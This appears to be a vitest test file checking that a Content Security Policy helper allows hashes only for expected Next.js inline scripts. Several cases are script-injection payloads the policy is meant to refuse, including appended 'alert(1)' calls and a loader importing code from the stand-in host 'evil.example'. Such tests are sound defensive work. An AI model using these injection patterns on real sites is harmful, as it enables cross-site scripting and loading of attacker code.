import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { inlineScriptHashes } from "@/app/_server/content-security-policy.mjs";

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

test.each([
  ["(self.__next_f=self.__next_f||[]).push([0])", true],
  [String.raw`self.__next_f.push([1,"0:{\"P\":null,\"n\":\"\u003cscript>\"}\n"])`, true],
  [
    'requestAnimationFrame(function(){setTimeout(function(){["/elements/paper.js","/elements/reading.js"].forEach(function(s){import(s)})})})',
    true,
  ],
  ["alert(1)", false],
  [String.raw`self.__next_f.push([1,"a"]);alert(1)`, false],
  [String.raw`self.__next_f.push([1,"a"+alert(1)])`, false],
  [
    'requestAnimationFrame(function(){setTimeout(function(){["//evil.example/x.js"].forEach(function(s){import(s)})})})',
    false,
  ],
  ['(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[]},alert(1))', false],
])("the policy lets %s run: %s", (code, runs) => {
  expect(inlineScriptHashes(`<p>Chuyện</p><script>${code}</script>`)).toEqual(runs ? [hashOf(code)] : []);
});
